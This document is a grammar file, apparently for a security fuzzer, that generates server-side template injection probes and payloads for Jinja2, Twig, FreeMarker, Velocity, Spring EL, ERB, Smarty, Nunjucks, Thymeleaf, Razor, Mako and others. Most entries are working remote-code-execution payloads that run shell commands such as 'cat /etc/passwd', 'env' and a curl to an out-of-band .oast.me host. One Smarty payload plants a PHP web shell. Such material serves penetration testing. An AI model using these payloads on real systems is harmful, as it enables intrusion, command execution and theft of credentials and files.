# Server-side template injection: probes and payloads for Jinja2, Twig,
# FreeMarker, Velocity, Spring EL, ERB, Smarty, Handlebars/Nunjucks,
# Thymeleaf, Razor, Mako, Pug.

technique = [3] "math_probe" | [3] "jinja2" | [1] "twig" | [2] "freemarker" | [1] "velocity" | [2] "spring_el"
	| [1] "erb" | [1] "smarty" | [1] "nunjucks" | [1] "thymeleaf" | [1] "razor" | [1] "mako" ;
place = [6] "param" | [3] "body" | [2] "query" | [1] "header" | [1] "cookie" ;
target = [6] "text" | [1] "file" | [1] "any" ;
encode = [7] "none" | [3] "raw" | [2] "pct" | [1] "double" | [1] "mixed" | [1] "unicode" ;
param = "name" | "template" | "message" | "greeting" | "subject" | "preview" | "q" | "title"
	| "content" | "lang" | "email" ;
header = "User-Agent" | "Referer" | "X-Forwarded-Host" ;
cookie = "name" | "theme" ;

n = @int(2,99) ;
op = "*" | "+" | "-" ;
cmd = "id" | "whoami" | "cat /etc/passwd" | "uname -a" | "ls" | "curl " @word ".oast.me" | "env" ;
math_probe = "{{" n op n "}}" | "${" n op n "}" | "<%= " n op n " %>" | "#{" n op n "}" | "{{=" n op n "}}"
	| "*{" n op n "}" | "@(" n op n ")" | "[[${" n op n "}]]" | "{" n op n "}" | "${{" n op n "}}"
	| "{{" n op "'" n "'}}" | "a{{" n op n "}}b" | "{{7*'7'}}" | "<#= " n op n " #>" ;
jinja2 = "{{config.items()}}" | "{{self.__init__.__globals__.__builtins__}}"
	| "{{''.__class__.__mro__[1].__subclasses__()}}" | "{{''.__class__.__base__.__subclasses__()[" @int(100,500) "]}}"
	| "{{request.application.__globals__.__builtins__.__import__('os').popen('" cmd "').read()}}"
	| "{{cycler.__init__.__globals__.os.popen('" cmd "').read()}}"
	| "{{lipsum.__globals__['os'].popen('" cmd "').read()}}"
	| "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('" cmd "').read()}}{% endif %}{% endfor %}"
	| "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}" | "{{config.__class__.__init__.__globals__['os'].environ}}"
	| "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}" ;
twig = "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('" cmd "')}}"
	| "{{['" cmd "']|filter('system')}}" | "{{app.request.server.all|join(',')}}" | "{{dump(app)}}" ;
freemarker = "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"" cmd "\")}"
	| "${\"freemarker.template.utility.Execute\"?new()(\"" cmd "\")}" | "${product.getClass().getProtectionDomain()}"
	| "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('" cmd "')}" ;
velocity = "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('" cmd "'))$ex.waitFor()"
	| "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"" cmd "\")" ;
spring_el = "${T(java.lang.Runtime).getRuntime().exec('" cmd "')}" | "#{T(java.lang.System).getenv()}"
	| "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('" cmd "').getInputStream())}"
	| "*{T(java.lang.Runtime).getRuntime().exec('" cmd "')}" | "${#ctx.getClass()}" | "#{" n op n "}" ;
erb = "<%= `" cmd "` %>" | "<%= system('" cmd "') %>" | "<%= File.open('/etc/passwd').read %>" | "<%= IO.popen('" cmd "').readlines() %>" ;
smarty = "{php}echo `" cmd "`;{/php}" | "{system('" cmd "')}" | "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"
	| "{$smarty.version}" | "{if system('" cmd "')}{/if}" ;
nunjucks = "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('" cmd "')\")()}}"
	| "{{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('" cmd "').toString()}}"
	| "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}{{/with}}" ;
thymeleaf = "__${T(java.lang.Runtime).getRuntime().exec('" cmd "')}__::.x" | "[[${T(java.lang.Runtime).getRuntime().exec('" cmd "')}]]"
	| "__${" n op n "}__" ;
razor = "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c " cmd "\")" | "@(" n op n ")" | "@{ var x = System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"); }@x" ;
mako = "${__import__('os').popen('" cmd "').read()}" | "<%import os%>${os.system('" cmd "')}" | "${self.module.cache.util.os.system('" cmd "')}" ;
